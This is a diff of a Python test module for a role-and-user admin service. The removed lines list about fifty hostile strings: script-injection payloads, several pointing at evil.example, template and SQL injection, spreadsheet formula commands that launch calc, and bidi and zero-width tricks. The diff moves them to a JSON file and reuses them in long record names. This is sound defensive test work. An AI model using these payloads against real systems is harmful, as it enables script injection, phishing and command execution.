@@ -1,65 +1,18 @@
 """Texts that try to run, to break the layout or to fool the reader, and a house whose records hold them."""
 
 import itertools
+import json
+from pathlib import Path
 from typing import Any, Final
 
 import httpx
 
 from service.kernel.text import unseen_fault
+from tests.console.acts import UNSAFE
+from tests.console.house import House
 from tests.support.without import is_served
 
-TEXTS: Final = (
-    "<script>alert(1)</script>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "</script><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "<script src=https://evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)>'\"><script>alert(2)</script>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<a href=javascript:alert(1)>here</a>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=https://evil.example>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<form action=https://evil.example><button>Sign in</button></form>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<!--<img src=--><img src=x onerror=alert(1)>-->",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "//evil.example/x",
-    "' onmouseover='alert(1)",
-    '" onfocus="alert(1)" autofocus="',
-    "`${alert(1)}`",
-    "${alert(1)}",
-    "{{constructor.constructor('alert(1)')()}}",
-    "<%= system('id') %>",
-    "#{7*7}",
-    "');alert(1);//",
-    "Robert'); DROP TABLE sys.role;--",
-    '=HYPERLINK("https://evil.example","here")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\u202etxt.exe\u202c",
-    "\u2066bidi\u2069\u200f",
-    "zero\u200bwidth\u200d\ufeff",
-    "Z\u0351\u036f\u0310" + "a\u0310\u0311\u0312" * 8,
-    "W" * 120,
-)
+TEXTS: Final[list[str]] = json.loads(Path(__file__).with_suffix(".json").read_text(encoding="utf-8"))
 """Fifty texts."""
 FEW: Final = 5
 """How many records of a kind hold them, unless each is to be in every field."""
@@ -141,46 +94,21 @@ def store(client: httpx.Client, *, everywhere: bool) -> dict[str, list[int]]:
     return ids
 
 
-def store_long(client: httpx.Client) -> dict[str, list[int]]:
-    """Store records whose names and codes are as long as they may be; return their ids, by kind."""
-    ids: dict[str, list[int]] = {}
-
-    def make(kind: str, **body: Any) -> int:
-        answer = client.post(f"/api/{kind}", json=body)
-        assert answer.status_code == 201, answer.text
-        record: int = answer.json()["data"]["id"]
-        ids.setdefault(kind, []).append(record)
-        return record
-
+def store_long(house: House) -> dict[str, list[int]]:
+    """Store records with the longest codes, and the longest names, which hold markup; return ids, by kind."""
+    name = UNSAFE.ljust(64, "N")
     code = "long:" + "part:" * 23 + "read"
-    button = make("menu", menuType="Button", title="T" * 64, authMark=code)
-    resource = make(
-        "resource",
-        method="GET",
-        path="/long" + "/of-many-segments" * 14,
-        resourceName="E" * 64,
-        resourceCode="long." * 12 + "code",
-    )
-    client.put(f"/api/menu/{button}/resources", json={"resourceIds": [resource]}).raise_for_status()
-    names = {"roleName": "R" * 64, "roleCode": "role-" * 12 + "code", "description": "D" * 400}
-    role = make("role", **names, menuIds=[button])
+    button = house.make("menu", menuType="Button", title=name, authMark=code)
+    path = "/long" + "/of-many-segments" * 14
+    names = {"resourceName": name, "resourceCode": "long." * 12 + "code"}
+    resource = house.make("resource", method="GET", path=path, **names)
+    house.send("PUT", f"/api/menu/{button}/resources", {"resourceIds": [resource]})
+    names = {"roleName": name, "roleCode": "role-" * 12 + "code", "description": UNSAFE + "D" * 300}
+    role = house.make("role", **names, menuIds=[button])
     address = "somebody.of.a.directory@" + "example." * 27 + "an.example"
-    make(
-        "user",
-        userName=address,
-        nickName="N" * 64,
-        email=address,
-        password="four wary herons",
-        roleIds=[role],
-    )
-    return ids
-
-
-def remove_long(client: httpx.Client, ids: dict[str, list[int]]) -> None:
-    """Delete the records of ``store_long``."""
-    for kind in ("user", "role", "resource", "menu"):
-        for record in ids[kind]:
-            client.delete(f"/api/{kind}/{record}").raise_for_status()
+    names = {"userName": address, "nickName": name, "email": address, "password": "four wary herons"}
+    user = house.make("user", **names, roleIds=[role])
+    return {"menu": [button], "resource": [resource], "role": [role], "user": [user]}
 
 
 def _store(client: httpx.Client, kind: str, body: dict[str, Any], number: int) -> int:
